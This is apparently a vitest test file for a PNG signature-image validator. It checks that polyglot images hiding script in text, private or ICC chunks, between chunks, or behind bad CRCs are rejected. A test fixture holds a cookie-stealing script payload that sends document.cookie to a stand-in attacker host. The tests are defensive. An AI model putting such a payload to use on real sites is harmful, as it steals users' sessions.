import { crc32 } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { checkSignaturePng } from '../src/signing.ts';
import { pngBytes } from './testing.ts';

/**
 * A signature PNG was checked for its signature, header,
 * size and end, not its chunks, so a polyglot carrying script text passed.
 * Only the chunks an image needs are accepted, each with a correct CRC.
 */
const chunk = (type: string, data: Buffer, crc?: number) => {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc ?? crc32(typed));
  return Buffer.concat([len, typed, sum]);
};
/** The test PNG's chunks, each whole. */
function chunksOf(png: Buffer): Buffer[] {
  const out: Buffer[] = [];
  for (let at = 8; at < png.length;) {
    const end = at + 12 + png.readUInt32BE(at);
    out.push(png.subarray(at, end));
    at = end;
  }
  return out;
}
const SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const build = (...parts: Buffer[]) => `data:image/png;base64,${Buffer.concat([SIGNATURE, ...parts]).toString('base64')}`;
const [IHDR, IDAT, IEND] = chunksOf(pngBytes(600, 200, 40)) as [Buffer, Buffer, Buffer];
const SCRIPT = Buffer.from('<script>fetch("https://evil.example/?c="+document.cookie)</script>');

describe('signature PNG chunks', () => {
  it('accepts the plain image, and one with the ancillary chunks browsers write (sRGB, gAMA, pHYs, tRNS)', () => {
    expect(checkSignaturePng(build(IHDR, IDAT, IEND)).ok).toBe(true);
    const phys = Buffer.alloc(9);
    phys.writeUInt32BE(2835, 0);
    phys.writeUInt32BE(2835, 4);
    phys[8] = 1;
    const gama = Buffer.alloc(4);
    gama.writeUInt32BE(45455);
    const chunks = [chunk('sRGB', Buffer.from([0])), chunk('gAMA', gama), chunk('pHYs', phys)];
    expect(checkSignaturePng(build(IHDR, ...chunks, IDAT, IEND)).ok).toBe(true);
  });

  it.each([
    ['script text in a tEXt chunk', () => build(IHDR, chunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), SCRIPT])), IDAT, IEND)],
    ['script text in an iTXt chunk', () => build(IHDR, IDAT, chunk('iTXt', Buffer.concat([Buffer.from('x\0\0\0\0\0'), SCRIPT])), IEND)],
    ['a private chunk', () => build(IHDR, chunk('prVt', SCRIPT), IDAT, IEND)],
    ['an ICC profile (arbitrary bytes)', () => build(IHDR, chunk('iCCP', Buffer.concat([Buffer.from('p\0\0'), SCRIPT])), IDAT, IEND)],
    ['a chunk with a wrong CRC', () => build(IHDR, chunk('IDAT', IDAT.subarray(8, IDAT.length - 4), 0x12345678), IEND)],
    ['bytes hidden between chunks', () => build(IHDR, IDAT, SCRIPT, IEND)],
    ['two IHDR chunks', () => build(IHDR, IHDR, IDAT, IEND)],
    ['no image data', () => build(IHDR, IEND)],
    ['IDAT chunks apart', () => build(IHDR, IDAT, chunk('gAMA', Buffer.alloc(4)), IDAT, IEND)],
  ])('refuses %s', (_what, png) => {
    const check = checkSignaturePng(png());
    expect(check.ok).toBe(false);
    expect(check).toMatchObject({ message: expect.stringMatching(/^The signature image /) });
  });
});
